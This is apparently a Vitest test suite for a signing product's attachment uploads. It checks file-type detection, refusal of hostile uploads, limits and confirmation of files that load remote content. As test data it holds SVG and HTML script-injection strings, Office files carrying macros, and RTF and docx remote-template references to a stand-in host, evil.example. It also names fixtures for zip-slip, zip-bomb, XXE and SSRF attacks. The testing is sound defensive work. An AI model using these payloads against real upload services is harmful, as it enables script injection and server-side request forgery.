import { eq } from "drizzle-orm";
import sharp from "sharp";
import { beforeAll, beforeEach, describe, expect, test } from "vitest";
import { database } from "@/db/client";
import { attachments } from "@/db/schema/attachments";
import { systemContext } from "@/lib/platform/context/context";
import { saveRequested } from "@/lib/attachments/save-requested";
import { call, must, useProduct } from "../support/api";
import { corpusFile, corpusFiles, hasCorpus } from "../support/corpus";
import { givenPdf, type Sender } from "../support/given";
import { type Draft, givenDocument, givenDraft, givenUser, givenSent } from "../support/shortcuts";
import { givenTemplate } from "../support/templates";
import { officeFile, officeFileOf, oldOfficeFile } from "../support/office-files";

useProduct();

let sender: Sender;
let draft: Draft;
beforeAll(async () => {
  sender = await givenUser();
});
beforeEach(async () => {
  draft = await givenDraft(sender);
});

function formOf(bytes: Uint8Array<ArrayBuffer>, name: string, more: Record<string, string> = {}): FormData {
  const form = new FormData();
  // The type that the browser claims must not matter.
  form.set("attachment", new File([bytes], name, { type: "application/pdf" }));
  for (const [key, value] of Object.entries(more)) form.set(key, value);
  return form;
}
const add = (bytes: Uint8Array<ArrayBuffer>, name: string, more?: Record<string, string>) =>
  call("POST", `/workflows/${draft.id}/attachments`, { token: sender.token, form: formOf(bytes, name, more) });

describe("what may be attached", () => {
  test("PDF, Word, Excel and images are recognised by their bytes and served as a download", async () => {
    const png = new Uint8Array(
      await sharp({ create: { width: 9, height: 9, channels: 3, background: "red" } })
        .png()
        .toBuffer(),
    );
    for (const [bytes, type, ending] of [
      [await givenPdf(1), "application/pdf", "pdf"],
      [
        await officeFile("word/document.xml"),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        "docx",
      ],
      [
        await officeFile("xl/workbook.xml"),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "xlsx",
      ],
      [oldOfficeFile("WordDocument"), "application/msword", "doc"],
      [oldOfficeFile("Workbook"), "application/vnd.ms-excel", "xls"],
      [png, "image/png", "png"],
    ] as const) {
      const { status, json } = await add(bytes, "σχέδιο.exe", {
        title: "Plan",
        description: "The plan",
        ...(["doc", "xls"].includes(ending) && { loads_confirmed: "true" }),
      });
      expect([ending, status]).toEqual([ending, 201]);
      expect(json.attachment).toMatchObject({ title: "Plan", description: "The plan", file_name: `σχέδιο.${ending}` });
      const file = await call("GET", `/workflows/${draft.id}/attachments/${json.attachment.id}`, {
        token: sender.token,
      });
      expect(file.headers.get("content-type")).toBe(type);
      expect(file.headers.get("content-disposition")).toMatch(/^attachment;/);
      expect(file.headers.get("x-content-type-options")).toBe("nosniff");
      expect(file.headers.get("content-security-policy")).toContain("sandbox");
      expect(Buffer.from(file.bytes).equals(Buffer.from(bytes))).toBe(true);
    }
    const { reference_attachments } = await must("GET", `/workflows/${draft.id}/attachments`, { token: sender.token });
    expect(reference_attachments).toHaveLength(6);
  });

  test("everything else is refused: script, macro, password, zip or text, whatever its name", async () => {
    const svg = new TextEncoder().encode("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>");
    for (const [name, bytes, status] of [
      ["plan.png", svg, 415],
      ["plan.pdf", new TextEncoder().encode("<html><script>alert(1)</script>"), 415],
      ["plan.docx", await officeFile("evil/document.xml"), 415],
      ["plan.docx", await officeFile("word/document.xml", "word/vbaProject.bin"), 422],
      ["plan.doc", oldOfficeFile("WordDocument", "Macros"), 422],
      ["plan.doc", oldOfficeFile("EncryptedPackage"), 422],
      ["plan.doc", new TextEncoder().encode("{\\rtf1 {\\*\\template https://evil.example/t}}"), 415],
      ["plan.docx", new TextEncoder().encode("<?xml version='1.0'?><w:document/>"), 415],
      ["empty.pdf", new Uint8Array(), 415],
    ] as const) {
      const answer = await add(new Uint8Array(bytes), name);
      expect([name, answer.status, typeof answer.json.message]).toEqual([name, status, "string"]);
    }
    const tooLarge = await add(new Uint8Array(5_242_881), "large.pdf");
    expect([tooLarge.status, tooLarge.json.label]).toEqual([413, "FileTooLarge"]);
  });

  test.runIf(hasCorpus)("hostile files are refused or stored unchanged, quickly", async () => {
    const accepted: string[] = [];
    const names = [".docx", ".png", ".pdf"].flatMap((ending) => corpusFiles("hostile", ending));
    for (const name of names) {
      const before = process.cpuUsage();
      const answer = await call("POST", "/attachments", {
        token: sender.token,
        form: formOf(new Uint8Array(corpusFile(name)), name),
      });
      expect([name, [201, 409, 415, 422].includes(answer.status)]).toEqual([name, true]);
      // microseconds of processor time, so that a busy machine does not matter
      expect([name, process.cpuUsage(before).user < 5_000_000]).toEqual([name, true]);
      if (answer.status === 201) accepted.push(name.replace("hostile/", ""));
    }
    // Harmless as a download, because the product never opens them.
    for (const name of [
      "macro-renamed.docx",
      "remote-template-ssrf.docx",
      "xxe-billion-laughs.docx",
      "zip-slip.docx",
      "zip-bomb.docx",
      "pixel-flood-30k.png",
      "svg-named.png",
      "png-header-only.png",
      "html-named.pdf",
    ])
      expect(accepted).not.toContain(name);
  });
});

describe("in a workflow", () => {
  test("an unattached file is used by its owner's workflow, once, and by nobody else's", async () => {
    const form = formOf(await givenPdf(1), "rules.pdf");
    const { attachment } = await must("POST", "/attachments", { token: sender.token, form });
    expect(attachment).toMatchObject({ title: "rules.pdf", visible_to_signatories: true });
    const stranger = await givenUser();
    const make = async (who: Sender) => {
      const document = await givenDocument(who);
      const body = { document_ids: [document.id], attachment_ids: [attachment.id] };
      return call("POST", "/workflows/documents", { token: who.token, body });
    };
    expect((await make(stranger)).status).toBe(404);
    const made = await make(sender);
    expect(made.status).toBe(201);
    const at = `/workflows/${made.json.workflow.id}/attachments`;
    expect((await must("GET", at, { token: sender.token })).reference_attachments).toHaveLength(1);
    expect((await make(sender)).status).toBe(404);
  });

  test("it is changed and removed in a draft, and no longer once sent", async () => {
    const { json } = await add(await givenPdf(1), "rules.pdf");
    const at = `/workflows/${draft.id}/attachments/${json.attachment.id}`;
    const changed = await must("PATCH", at, { token: sender.token, body: { title: "House rules" } });
    expect(changed.attachment).toMatchObject({ title: "House rules", file_name: "rules.pdf" });
    const empty = await call("PATCH", at, { token: sender.token, body: { title: " " } });
    expect([empty.status, Object.keys(empty.json.errors)]).toEqual([422, ["title"]]);
    expect((await call("DELETE", at, { token: sender.token })).status).toBe(204);
    expect((await call("GET", at, { token: sender.token })).status).toBe(404);

    const sent = await givenSent(sender);
    const late = await call("POST", `/workflows/${sent.id}/attachments`, {
      token: sender.token,
      form: formOf(await givenPdf(1), "late.pdf"),
    });
    expect([late.status, late.json.label]).toEqual([409, "Conflict"]);
  });

  test("holds at most 20", async () => {
    const { id } = await givenDraft(sender);
    const form = async () => formOf(await givenPdf(1), "rules.pdf");
    const address = `/workflows/${id}/attachments`;
    for (let count = 0; count < 20; count++) await must("POST", address, { token: sender.token, form: await form() });
    const answer = await call("POST", address, { token: sender.token, form: await form() });
    expect([answer.status, answer.json.message]).toEqual([409, "A workflow can have at most 20 reference documents."]);
  });

  test("the attachments requested of a recipient are a list whose entries keep their ids", async () => {
    const { id: signatoryId } = draft.signatories[0] ?? {};
    const ctx = {
      ...systemContext(),
      actor: {
        kind: "user",
        userId: sender.id,
        sessionId: 0,
        email: sender.email,
        confirmed: true,
        companyId: null,
        companyRole: null,
        holdingCompanyId: null,
      },
    } as const;
    const one = { title: "Passport", description: "Both sides", required: true, visibleToSignatories: false };
    await saveRequested(ctx, { signatoryId, workflowId: draft.id }, [one, { ...one, title: "Payslip" }]);
    const read = async () =>
      (await must("GET", `/workflows/${draft.id}/attachments`, { token: sender.token })).signatory_attachments;
    const [first, second] = await read();
    expect([first.title, second.title, first.file_name]).toEqual(["Passport", "Payslip", null]);
    await saveRequested(ctx, { signatoryId, workflowId: draft.id }, [{ ...one, id: second.id, title: "Pay" }]);
    expect((await read()).map((a: { id: number; title: string }) => [a.id, a.title])).toEqual([[second.id, "Pay"]]);
    const [row] = await database().select().from(attachments).where(eq(attachments.id, second.id));
    expect(row).toMatchObject({ kind: "requested", workflowId: draft.id, signatoryId });
  });
});

describe("a file that loads something when it is opened", () => {
  const remote = () =>
    officeFileOf({
      "word/document.xml": "<x/>",
      "word/_rels/settings.xml.rels":
        '<Relationships><Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t" TargetMode="External"/></Relationships>',
    });

  test("is named to the sender and attached only once they confirm it, wherever reference documents are taken", async () => {
    const title = { title: "Terms" };
    const template = await givenTemplate(sender);
    for (const path of [
      `/workflows/${draft.id}/attachments`,
      "/attachments",
      `/templates/${template.id}/attachments`,
    ]) {
      const send = async (more: Record<string, string>) =>
        call("POST", path, { token: sender.token, form: formOf(await remote(), "terms.docx", { ...title, ...more }) });
      const refused = await send({});
      expect([refused.status, refused.json.label], path).toEqual([409, "LoadsWhenOpened"]);
      expect(refused.json.message).toBe("This file loads something from evil.example when it is opened.");
      expect((await send({ loads_confirmed: "yes" })).status).toBe(422);
      const confirmed = await send({ loads_confirmed: "true" });
      expect([confirmed.status, confirmed.json.attachment]).toMatchObject([
        201,
        { loads_from: ["evil.example"], loads_confirmed: true },
      ]);
    }
    const stored = await database().select().from(attachments).where(eq(attachments.title, "Terms"));
    expect(stored).toHaveLength(3);
  });

  test("one of before 2007 cannot be looked into, which the sender is told and must confirm likewise", async () => {
    for (const stream of ["WordDocument", "Workbook"]) {
      const refused = await add(oldOfficeFile(stream), "terms.doc");
      expect([stream, refused.status, refused.json.label]).toEqual([stream, 409, "LoadsWhenOpened"]);
      expect(refused.json.message).toContain("cannot be inspected");
      const { status, json } = await add(oldOfficeFile(stream), "terms.doc", { loads_confirmed: "true" });
      expect([stream, status, json.attachment.loads_confirmed]).toEqual([stream, 201, true]);
    }
  });
});
